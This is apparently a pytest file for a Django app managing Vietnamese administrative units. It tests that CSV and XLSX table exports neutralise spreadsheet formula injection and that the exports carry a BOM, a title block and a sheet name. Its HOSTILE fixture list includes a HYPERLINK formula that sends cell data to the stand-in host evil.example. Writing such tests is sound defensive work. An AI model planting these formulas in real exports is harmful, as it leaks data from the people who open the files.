"""Table downloads: formulas neutralised in every cell, a BOM on CSV, a title block and sheet name on XLSX."""

import csv
import io

import openpyxl
import pytest
from django.test import Client

from communes.models import Kind, Role
from tests.factories import AdminUnitFactory, MembershipFactory, UserFactory

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")', "+1+2", "-3+4", "@SUM(A1:A9)"]


@pytest.fixture
def district_client(db):
    province = AdminUnitFactory(kind=Kind.TINH, code="51", name="Tỉnh Thử")
    district = AdminUnitFactory(kind=Kind.HUYEN, code="511", parent=province, name="Huyện [Thử]: một/hai")
    for n, name in enumerate(HOSTILE, start=1):
        AdminUnitFactory(kind=Kind.XA, code=f"5100{n}", parent=district, name=name)
    user = UserFactory(username="huyen-thu")
    MembershipFactory(user=user, unit=district, role=Role.DISTRICT_REVIEWER)
    client = Client()
    client.force_login(user)
    return client


def test_csv_cells_are_neutralised_and_start_with_a_bom(district_client):
    response = district_client.get("/units/511/", {"export": "csv"})
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = {row[1] for row in rows[1:]}
    assert names == {"'" + name for name in HOSTILE}
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell


def test_xlsx_has_no_formula_and_carries_a_title_block(district_client):
    response = district_client.get("/units/511/", {"export": "xlsx", "status": "none"})
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = workbook.active
    assert sheet.title == "Huyện Thử một hai chua-co-ky"[:31]
    values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in values if c.data_type == "f"]
    texts = [c.value for c in values if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@"))]
    rows = [r[0] for r in sheet.iter_rows(max_row=4, values_only=True)]
    assert rows[0] == "Huyện [Thử]: một/hai"
    assert rows[1] == "Kỳ báo cáo: chua-co-ky"
    assert rows[2].startswith("Ngày xuất: ")
    assert rows[3] == "Bộ lọc: Duyệt số liệu: chưa gửi"
